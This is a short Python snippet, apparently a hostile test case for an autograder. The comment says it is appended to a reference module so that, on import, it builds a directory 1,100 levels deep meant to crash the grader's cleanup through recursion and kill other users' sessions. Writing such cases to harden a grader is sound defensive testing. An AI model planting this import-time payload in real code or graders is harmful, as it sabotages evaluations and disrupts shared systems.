# Hostile twist, appended to the reference tools.py at test time:
# at import the module builds a directory 1,100 levels deep (past the recursion limit of 1,000) in its workdir, then carries on
# as the reference. shutil.rmtree recurses on Python 3.11 and raises RecursionError (not
# OSError) on such a tree: the zygote that removed the workdir died with it, ending the
# grade with no results.json and, in class, every classmate's open session.
import os as _os

_top = _os.open(".", _os.O_RDONLY | _os.O_DIRECTORY)
try:
    for _ in range(1100):
        _os.mkdir("d")
        _os.chdir("d")
except OSError:
    pass
finally:
    _os.fchdir(_top)
    _os.close(_top)
